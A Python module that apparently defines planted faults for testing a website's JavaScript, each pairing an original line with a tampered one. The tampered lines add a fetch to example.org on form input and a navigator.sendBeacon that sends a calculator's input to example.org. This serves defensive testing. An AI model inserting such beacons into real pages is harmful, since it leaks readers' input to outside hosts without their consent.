"""What the built page does in a reader's browser."""

from planting import Fault

FAULTS = [
    Fault(
        "page",
        "a foreign host asked on a click",
        "_static/verdicts.js",
        'form.addEventListener("input", keep);',
        'form.addEventListener("input", () => { keep(); fetch("https://example.org/seen"); });',
        ("tests/unit/test_scripts.py",),
    ),
    Fault(
        "page",
        "a beacon sent by the calculator",
        "_static/explorer_model.js",
        "function simple(x) {\n",
        'function simple(x) {\n    navigator.sendBeacon("//example.org/x", x);\n',
        ("tests/unit/test_scripts.py",),
    ),
]  # fmt: skip
